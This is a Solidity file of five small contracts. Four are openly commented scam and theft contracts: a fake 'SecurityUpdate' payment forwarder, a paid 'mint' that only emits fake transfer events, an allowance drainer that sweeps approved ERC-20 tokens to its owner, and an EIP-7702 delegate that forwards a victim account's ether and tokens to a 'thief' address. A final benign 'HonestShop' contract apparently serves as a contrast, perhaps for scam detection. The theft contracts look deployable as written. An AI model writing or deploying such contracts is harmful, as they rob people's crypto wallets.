// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Passes ether on under a reassuring name.
contract ForwardingBait {
    address payable private owner = payable(msg.sender);

    event Updated(address indexed account);

    function SecurityUpdate() external payable {
        emit Updated(msg.sender);
        (bool sent,) = owner.call{value: msg.value}("");
        require(sent);
    }
}

/// Keeps ether and mints nothing for it.
contract KeepingBait {
    address payable private owner = payable(msg.sender);

    event Transfer(address indexed from, address indexed to, uint256 indexed id);

    function mint(uint256 count) external payable {
        for (uint256 id = 0; id < count; id++) {
            emit Transfer(address(0), msg.sender, id);
        }
    }

    function withdraw() external {
        require(msg.sender == owner);
        (bool sent,) = owner.call{value: address(this).balance}("");
        require(sent);
    }
}

/// Moves what anybody approved, to its owner.
contract CollectingDrainer {
    address private owner = msg.sender;

    function collect(IERC20 token, address[] calldata holders) external {
        require(msg.sender == owner);
        for (uint256 index = 0; index < holders.length; index++) {
            token.transferFrom(holders[index], owner, token.allowance(holders[index], address(this)));
        }
    }
}

/// Run by an account (EIP-7702), it passes on what the account gets.
contract SweepingDelegate {
    address payable private immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    receive() external payable {
        (bool sent,) = thief.call{value: msg.value}("");
        require(sent);
    }

    function sweep(IERC20 token) external {
        token.transfer(thief, token.balanceOf(address(this)));
    }
}

/// Honest: sells for tokens that go to a treasury, keeps accounts, and takes donations.
contract HonestShop {
    address private immutable treasury;
    IERC20 private immutable token;
    mapping(address => uint256) public bought;
    mapping(address => uint256) public deposits;

    constructor(address treasury_, IERC20 token_) {
        treasury = treasury_;
        token = token_;
    }

    function buy(uint256 count) external {
        bought[msg.sender] += count;
        token.transferFrom(msg.sender, treasury, count * 1e6);
    }

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = deposits[msg.sender];
        deposits[msg.sender] = 0;
        (bool sent,) = payable(msg.sender).call{value: amount}("");
        require(sent);
    }

    function donate() external payable {}
}
